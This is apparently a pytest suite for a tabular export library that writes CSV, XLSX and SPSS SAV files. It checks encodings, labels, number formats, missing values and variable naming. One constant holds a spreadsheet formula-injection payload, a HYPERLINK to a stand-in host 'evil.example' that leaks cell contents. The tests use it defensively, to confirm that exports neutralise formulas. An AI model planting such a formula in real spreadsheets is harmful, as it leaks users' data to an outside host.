"""The export-writer registry: CSV read back as text, XLSX reopened with openpyxl, SAV
reopened with pyreadstat."""
from __future__ import annotations

import csv
import datetime as dt
import io
import math

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tabular.reading import read_table
from tabular.writing import (
    WRITERS,
    Sheet,
    csv_cell,
    extension,
    media_type,
    spss_names,
    write_table,
    write_workbook,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "id": [1, 2, 3],
        "share": [0.125, np.nan, 0.5],
        "count": pd.array([12, None, 3], dtype="Int64"),
        "street": [EVIL, "东湖街道", None],
        "day": [dt.date(2024, 5, 1), None, dt.date(2024, 6, 2)],
        "sex": [1.0, 2.0, 1.0],
    })


def reopen_sav(data: bytes, tmp_path) -> tuple[pd.DataFrame, object]:
    path = tmp_path / "t.sav"
    path.write_bytes(data)
    return pyreadstat.read_sav(str(path))


def test_registry_names_extensions_and_media_types():
    assert set(WRITERS) == {"csv", "xlsx", "sav"}
    assert extension("csv") == ".csv" and media_type("csv") == "text/csv; charset=utf-8"
    assert media_type("xlsx").endswith("spreadsheetml.sheet") and extension("sav") == ".sav"
    assert media_type("sav") == "application/x-spss-sav"
    with pytest.raises(ValueError, match="use one of csv, xlsx, sav"):
        write_table("pdf", pd.DataFrame())


# ------------------------------------------------------------------ CSV


def test_csv_has_bom_guard_numbers_and_empty_missing(frame):
    data = write_table("csv", frame)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["id", "share", "count", "street", "day", "sex"]
    assert rows[1] == ["1", "0.125", "12", "'" + EVIL, "2024-05-01", "1"]
    assert rows[2] == ["2", "", "", "东湖街道", "", "2"]
    # our reader undoes the guard: export -> import round-trips
    table = read_table(data, "t.csv", unguard=True)
    assert table.encoding == "utf-8-sig" and table.rows[0].values[3] == EVIL


def test_csv_label_row(frame):
    data = write_table("csv", frame, variable_labels={"share": "比例", "street": "=街道"},
                       label_row=True)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["id", "比例", "count", "'=街道", "day", "sex"]


@pytest.mark.parametrize(("value", "text"), [
    (None, ""), (np.nan, ""), (pd.NA, ""), (pd.NaT, ""), (math.inf, ""), (True, "1"),
    (np.bool_(False), "0"), (np.int64(7), "7"), (np.float64(0.1), "0.1"), (3.0, "3"),
    (-1.5, "-1.5"), (1e-7, "1e-07"), (dt.date(2024, 1, 2), "2024-01-02"),
    (dt.datetime(2024, 1, 2, 3, 4, 5), "2024-01-02 03:04:05"),
    (pd.Timestamp("2024-01-02 03:04"), "2024-01-02 03:04:00"), ("-1.5", "-1.5"),
    ("@x", "'@x")])
def test_csv_cells(value, text):
    assert csv_cell(value) == text


@settings(max_examples=200, deadline=None)
@given(st.floats(allow_nan=False, allow_infinity=False))
def test_csv_numbers_keep_every_decimal(x):
    assert float(csv_cell(x)) == x


# ------------------------------------------------------------------ XLSX


def test_xlsx_text_is_never_a_formula(frame):
    data = write_table("xlsx", frame, sheet_name="groups", column_widths={"street": 30})
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book["groups"]
    header = [c.value for c in ws[1]]
    assert header == ["id", "share", "count", "street", "day", "sex"]
    assert ws[1][0].font.bold and ws.freeze_panes == "A2"
    street = ws["D2"]
    assert street.value == EVIL and street.data_type == "s"
    assert ws["B2"].value == 0.125 and ws["B3"].value is None and ws["C2"].value == 12
    assert ws["E2"].is_date and ws["E2"].number_format == "yyyy-mm-dd"
    assert ws.column_dimensions["D"].width == 30
    # read back by our reader
    table = read_table(data, "t.xlsx")
    assert table.sheet == "groups" and table.rows[0].values[:4] == ("1", "0.125", "12", EVIL)


def test_xlsx_label_row_and_illegal_characters():
    frame = pd.DataFrame({"a": ["bell\x07 and\x00 nul", "-x"]})
    data = write_table("xlsx", frame, variable_labels={"a": "=标签"}, label_row=True)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws["A"]] == ["a", "=标签", "bell and nul", "-x"]
    assert all(c.data_type == "s" for c in ws["A"]) and ws.freeze_panes == "A3"


def test_workbook_with_several_sheets(frame):
    codebook = pd.DataFrame({"variable": ["id", "street"], "label": ["编号", EVIL]})
    data = write_workbook([Sheet("responses", frame, freeze_panes="B2"),
                           Sheet("codebook: all/variables", codebook)])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["responses", "codebook_ all_variables"]
    assert book["responses"].freeze_panes == "B2"
    assert book["codebook_ all_variables"]["B3"].data_type == "s"
    with pytest.raises(ValueError):
        write_workbook([])


# ------------------------------------------------------------------ SAV


def test_sav_labels_formats_and_measures(frame, tmp_path):
    data = write_table("sav", frame, variable_labels={"share": "比例", "sex": "性别"},
                       value_labels={"sex": {1: "男", 2: "女"}}, file_label="监测")
    back, meta = reopen_sav(data, tmp_path)
    assert list(back.columns) == list(frame.columns)
    assert meta.file_label == "监测"
    assert meta.column_names_to_labels["share"] == "比例"
    assert meta.variable_value_labels == {"sex": {1.0: "男", 2.0: "女"}}
    types = meta.original_variable_types
    assert types["id"] == "F8.0" and types["share"] == "F8.3" and types["count"] == "F8.0"
    assert types["day"].startswith("DATE") and types["street"].startswith("A")
    assert meta.variable_measure["sex"] == "nominal"
    assert meta.variable_measure["share"] == "scale"
    assert meta.variable_measure["street"] == "nominal"
    assert back["share"].tolist()[0] == 0.125 and math.isnan(back["share"].tolist()[1])
    assert back["street"].tolist() == [EVIL, "东湖街道", ""]  # exact text: SPSS runs nothing
    assert back["day"].tolist()[0] == dt.date(2024, 5, 1)


def test_sav_numbers_keep_their_decimals(tmp_path):
    frame = pd.DataFrame({"est": [0.123456, 12.5, -3.0], "big": [123456789.25, 1.0, 2.0],
                          "tiny": [1e-7, 0.0, 0.5]})
    back, meta = reopen_sav(write_table("sav", frame), tmp_path)
    types = meta.original_variable_types
    assert types == {"est": "F10.6", "big": "F12.2", "tiny": "F9.7"}  # "-12.500000"
    assert back["est"].tolist() == [0.123456, 12.5, -3.0]


def test_sav_overrides_and_long_labels_cut_between_characters(tmp_path):
    long_label = "很长的题目" * 40
    frame = pd.DataFrame({"theta": [0.5, None], "flag": [True, False]})
    data = write_table("sav", frame, variable_labels={"theta": long_label},
                       value_labels={"flag": {0: "未选" * 50, 1: "选中"}},
                       formats={"theta": "F8.3"}, measures={"theta": "ordinal"})
    back, meta = reopen_sav(data, tmp_path)
    label = meta.column_names_to_labels["theta"]
    assert long_label.startswith(label) and len(label.encode()) <= 255
    assert len(meta.variable_value_labels["flag"][0.0].encode()) <= 120
    assert meta.original_variable_types["theta"] == "F8.3"
    assert meta.variable_measure["theta"] == "ordinal"
    assert back["flag"].tolist() == [1.0, 0.0]


def test_sav_refuses_illegal_names_and_spss_names_makes_them():
    with pytest.raises(ValueError, match="not a legal SPSS variable name"):
        write_table("sav", pd.DataFrame({"1st": [1]}))
    with pytest.raises(ValueError, match="appears twice"):
        write_table("sav", pd.DataFrame([[1, 2]], columns=["Age", "age"]))
    names = spss_names(["1st", "a b", "AND", "age", "Age", "年龄", "x" * 80])
    assert names[:5] == ["v_1st", "a_b", "AND_x", "age", "Age_2"]
    assert names[5] == "v" and len(names[6]) == 64
    frame = pd.DataFrame([[1] * 7], columns=names)
    assert write_table("sav", frame)[:4] == b"$FL2"


def test_sav_empty_and_mixed_columns(tmp_path):
    frame = pd.DataFrame({"text": pd.Series([], dtype=object),
                          "n": pd.Series([], dtype=float)})
    back, _ = reopen_sav(write_table("sav", frame), tmp_path)
    assert list(back.columns) == ["text", "n"] and len(back) == 0
    mixed = pd.DataFrame({"m": [1, "two", None]})
    back, _ = reopen_sav(write_table("sav", mixed), tmp_path)
    assert back["m"].tolist() == ["1", "two", ""]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.floats(-1e9, 1e9, allow_nan=False).map(lambda x: round(x, 4)),
                min_size=1, max_size=20))
def test_sav_round_trips_numbers(tmp_path_factory, values):
    back, meta = reopen_sav(write_table("sav", pd.DataFrame({"x": values})),
                            tmp_path_factory.mktemp("sav"))
    assert back["x"].tolist() == values
    decimals = int(meta.original_variable_types["x"].split(".")[1])
    assert all(round(v, decimals) == v for v in values)


def test_workbook_wraps_text_when_asked():
    frame = pd.DataFrame({"label": ["很长的题目" * 10], "n": [1]})
    data = write_workbook([Sheet("survey", frame, wrap_text=True)])
    ws = openpyxl.load_workbook(io.BytesIO(data))["survey"]
    assert ws["A2"].alignment.wrap_text and ws["A2"].alignment.vertical == "top"
    assert not ws["B2"].alignment.wrap_text


def test_sav_user_missing_values_and_string_widths(tmp_path):
    """``missing_values`` declares user-missing codes; ``string_widths`` fixes a text
    column's storage width (an empty column too) without changing its values, and a
    longer value widens the column rather than being cut."""
    frame = pd.DataFrame({"x": [1.0, -9.0, -8.0], "t": ["街道", "", "-9"],
                          "e": ["", "", ""], "w": ["abcdefghij", "", ""]})
    data = write_table("sav", frame, missing_values={"x": [-8, -9], "t": ["-8", "-9"]},
                       value_labels={"x": {-8: "not asked", -9: "no answer"}},
                       string_widths={"t": 90, "e": 255, "w": 4})
    path = tmp_path / "m.sav"
    path.write_bytes(data)
    plain, meta = pyreadstat.read_sav(str(path))
    assert meta.variable_storage_width == {"x": 8, "t": 90, "e": 255, "w": 10}
    assert plain["x"].iloc[0] == 1 and plain["x"].iloc[1:].isna().all()
    kept, declared = pyreadstat.read_sav(str(path), user_missing=True)
    assert declared.missing_ranges["x"] == [{"lo": -8.0, "hi": -8.0},
                                            {"lo": -9.0, "hi": -9.0}]
    assert kept["x"].tolist() == [1.0, -9.0, -8.0]
    assert kept["t"].tolist() == ["街道", "", "-9"] and kept["e"].tolist() == ["", "", ""]
